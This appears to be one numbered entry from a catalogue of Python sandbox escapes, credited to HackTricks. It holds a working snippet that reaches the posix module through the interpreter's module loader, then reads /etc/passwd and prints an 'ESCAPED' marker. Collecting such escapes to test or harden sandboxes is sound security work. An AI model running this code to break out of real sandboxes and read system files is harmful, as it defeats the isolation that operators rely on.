# escape: 087
# technique: __loader__ / __spec__.loader of the guest or of a module
# family: import
# goal: read-file
# first-seen: HackTricks
import sys
L = sys.__spec__.loader
p = L.load_module('posix')
s = p.read(p.open('/etc/passwd', 0), 30)
if b'root:' in s: print('ESCAPED:loader', s[:8])
